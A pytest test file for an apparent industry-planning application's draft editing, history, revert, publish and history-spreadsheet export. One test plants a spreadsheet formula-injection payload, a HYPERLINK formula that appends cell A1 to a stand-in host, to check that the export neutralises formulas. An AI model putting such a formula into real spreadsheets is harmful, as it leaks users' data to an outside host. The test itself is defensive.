"""Each edit type on a draft, its validation, revert and return-to-point, publish, and the history export."""

from __future__ import annotations

import io
from collections.abc import Callable
from typing import Any

import geopandas as gpd
import openpyxl
import pytest
from shapely.geometry import box

from sq_layout.errors import EditConflict, EditRejected
from sq_layout.export.history import history_xlsx
from sq_layout.plan.join import chain_links
from sq_layout.store import Workspace, consistency, drafts, edit_ops
from sq_layout.store.edits import records
from sq_layout.store.history import history, return_to, revert
from tests.edits.conftest import Team
from tests.frames import row


def _row(team: Team, table: str, **where: object) -> dict[str, Any]:
    return next(r for r in records(team.ws, team.draft, table) if all(r[k] == v for k, v in where.items()))


def test_chain_host_added_shows_in_the_join_and_history(team: Team) -> None:
    ws, d = team.ws, team.draft
    assert not ((chain_links(ws.load(d))["area_id"] == "susu") & (chain_links(ws.load(d))["chain_no"] == 1)).any()
    cid = edit_ops.host_chain(
        ws, "eve", d, area_id="susu", chain_no=1, source="document", ref="会议纪要〔2026〕3号", reason="引进"
    )
    links = chain_links(ws.load(d))
    assert ((links["area_id"] == "susu") & (links["chain_no"] == 1)).any()
    entry = history(ws, d, chain=1)[0]
    assert (entry.id, entry.user, entry.reason, entry.action) == (cid, "eve", "引进", "add")
    assert entry.rows[0]["before"] is None and entry.rows[0]["after"]["ref"] == "会议纪要〔2026〕3号"
    assert history(ws, d, area="susu")[0].id == cid and not history(ws, d, area="sihong")


def test_details_figures_and_names(team: Team) -> None:
    ws, d = team.ws, team.draft
    edit_ops.add_detail(ws, "eve", d, area_id="sihong", industry_id="pv", subindustry_id="", kind="firm",
                        text="=示例龙头企业", line=800, reason="招商")  # fmt: skip
    firm = _row(team, "details", area_id="sihong", text="=示例龙头企业")
    edit_ops.update_record(ws, "eve", d, "details", firm["row_no"], firm["rev"], {"text": "示例企业"}, "更正")
    chain = _row(team, "chains", chain_no=3)
    edit_ops.set_chain_figures(ws, "eve", d, 3, chain["rev"], {"target_2025_yi": "1200.5"}, "新目标")
    area = _row(team, "areas", area_id="susu")
    edit_ops.rename_area(ws, "eve", d, "susu", area["rev"], {"name": "苏宿园区（新）"}, "更名")
    edit_ops.rename_chain(ws, "eve", d, 3, chain["rev"] + 1, {"name": "光伏"}, "简称")
    ds = ws.load(d)
    assert "示例企业" in set(ds.details["text"])
    assert row(ds.chains.set_index("chain_no"), 3)[["target_2025_yi", "name"]].tolist() == [1200.5, "光伏"]
    assert ds.areas.set_index("area_id").at["susu", "name"] == "苏宿园区（新）"
    assert ds.boundaries.set_index("area_id").at["susu", "name"] == "苏宿园区（新）"
    assert consistency.problems(ws, d) == []


def test_boundary_import_on_a_draft_replaces_the_drafts_geometry(team: Team) -> None:
    ws, d = team.ws, team.draft
    before = {v.id for v in ws.versions()}
    frame = gpd.GeoDataFrame({"area_id": ["susu"]}, geometry=[box(118.30, 33.90, 118.36, 33.95)], crs=4326)
    assert ws.save_boundaries(d, frame, source="规划局", file_name="susu.shp", user="eve") == d
    assert {v.id for v in ws.versions()} == before  # no new version: the draft itself changed
    row = ws.load(d).boundaries.set_index("area_id").loc["susu"]
    assert row["geometry_quality"] == "official" and row["geometry_file"] == "susu.shp"
    assert history(ws, d)[0].summary.startswith("boundaries: susu")


@pytest.mark.parametrize(
    ("call", "key"),
    [
        (
            lambda ws, d: edit_ops.add_assignment(
                ws, "eve", d, area_id="nowhere", industry_id="pv", source="ch5", ref="x", line=5, quote="x", reason="r"
            ),
            "ev_unknown",
        ),
        (
            lambda ws, d: edit_ops.add_assignment(
                ws,
                "eve",
                d,
                area_id="sihong",
                industry_id="electromech",
                source="table10",
                ref="表十",
                line=710,
                quote="泗洪县",
                reason="r",
            ),
            "ev_duplicate",
        ),
        (lambda ws, d: edit_ops.set_chain_figures(ws, "eve", d, 2, 1, {"output_2020_yi": "inf"}, "r"), "ev_not_number"),
        (lambda ws, d: edit_ops.set_chain_figures(ws, "eve", d, 2, 1, {"target_2023_yi": "abc"}, "r"), "ev_not_number"),
        (lambda ws, d: edit_ops.set_chain_figures(ws, "eve", d, 2, 1, {"target_2023_yi": 5}, "  "), "ev_reason"),
        (lambda ws, d: edit_ops.rename_chain(ws, "eve", d, 2, 1, {"name": "化学纤维"}, "r"), "ev_name_taken"),
        (
            lambda ws, d: edit_ops.host_chain(
                ws, "eve", 1, area_id="susu", chain_no=2, source="meeting", ref="x", reason="r"
            ),
            "ev_not_draft",
        ),
    ],
)
def test_bad_edits_are_refused_with_reasons_and_nothing_written(
    team: Team, call: Callable[[Workspace, int], object], key: str
) -> None:
    before = team.ws.checksum()
    with pytest.raises(EditRejected) as err:
        call(team.ws, team.draft)
    assert key in [k for k, _ in err.value.problems]
    assert err.value.messages("zh") != err.value.messages("en")
    assert team.ws.checksum() == before


def test_stale_save_is_refused_with_the_current_record(team: Team) -> None:
    ws, d = team.ws, team.draft
    chain = _row(team, "chains", chain_no=5)
    edit_ops.set_chain_figures(ws, "eve", d, 5, chain["rev"], {"target_2023_yi": 111}, "first")
    before = ws.checksum()
    with pytest.raises(EditConflict) as err:
        edit_ops.set_chain_figures(ws, "ada", d, 5, chain["rev"], {"target_2023_yi": 222}, "second")
    assert err.value.current is not None and err.value.current_rev is not None
    assert err.value.current["target_2023_yi"] == 111 and err.value.current_rev == chain["rev"] + 1
    assert ws.checksum() == before
    edit_ops.set_chain_figures(ws, "ada", d, 5, err.value.current_rev, {"target_2023_yi": 222}, "re-applied")
    assert _row(team, "chains", chain_no=5)["target_2023_yi"] == 222


def test_revert_and_return_to_a_point(team: Team) -> None:
    ws, d = team.ws, team.draft
    mark = history(ws, d)[0].id
    a = edit_ops.host_chain(ws, "eve", d, area_id="susu", chain_no=2, source="meeting", ref="x", reason="试")
    row = _row(team, "assignments", area_id="susu", subindustry_id="apparel")
    edit_ops.remove_record(ws, "eve", d, "assignments", row["row_no"], row["rev"], "删")
    with pytest.raises(EditConflict):  # the added record was removed since: reverting the add would overwrite that
        revert(ws, "eve", a, "撤销")
    undo = return_to(ws, "eve", d, mark, "回到之前")
    assert not [r for r in records(ws, d, "assignments") if r["area_id"] == "susu" and r["subindustry_id"] == "apparel"]
    assert history(ws, d)[0].id == undo and history(ws, d)[0].action == "return"
    redo = revert(ws, "eve", undo, "恢复")  # the return itself can be reverted
    assert [
        r for r in records(ws, d, "assignments") if r["area_id"] == "susu" and r["subindustry_id"] == "apparel"
    ] == []
    assert history(ws, d)[0].id == redo
    assert consistency.problems(ws, d) == []


def test_draft_is_marked_and_reloaded_after_an_edit(team: Team) -> None:
    from sq_layout import workspace
    from sq_layout.analysis.queries import Selection
    from sq_layout.printing.printmap import map_title

    first = workspace.dataset(team.draft, team.ws.url)
    assert first.draft and map_title(first, Selection(), None, "zh").startswith("【草案】")
    assert not workspace.dataset(1, team.ws.url).draft
    chain = _row(team, "chains", chain_no=8)
    edit_ops.set_chain_figures(team.ws, "eve", team.draft, 8, chain["rev"], {"target_2023_yi": 77}, "看变化")
    after = workspace.dataset(team.draft, team.ws.url)
    assert after is not first and after.chains.set_index("chain_no").at[8, "target_2023_yi"] == 77


def test_history_export_neutralises_formulas(team: Team) -> None:
    ws = team.ws
    draft = drafts.start_draft(ws, "eve", 1, "公式草案")  # its own draft: independent of the other tests' edits
    formula = '=HYPERLINK("http://example.invalid/?"&A1,"点击")'
    edit_ops.add_detail(ws, "eve", draft, area_id="sihong", industry_id="pv", subindustry_id="", kind="firm",
                        text=formula, line=800, reason="+招商")  # fmt: skip
    data = history_xlsx(history(ws, draft), "zh")
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = [c.value for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
    assert cells and not any(v.startswith(("=", "+", "-", "@")) for v in cells)
    assert any(formula in v for v in cells) and any("招商" in v for v in cells)


def test_publish_needs_admin_and_freezes_the_draft(team: Team) -> None:
    ws, d = team.ws, team.draft
    with pytest.raises(PermissionError):
        drafts.publish(ws, "eve", d, "十五五 一稿", "2026-03-01")
    assert drafts.publish(ws, "ada", d, "十五五 一稿", "2026-03-01") == d
    assert ws.info(d).kind == "published" and ws.latest_id() == d and not drafts.is_draft(ws, d)
    with pytest.raises(EditRejected):
        edit_ops.host_chain(ws, "eve", d, area_id="susu", chain_no=4, source="meeting", ref="x", reason="r")
    assert history(ws, d)[0].action == "publish"
    assert consistency.problems(ws, d) == []
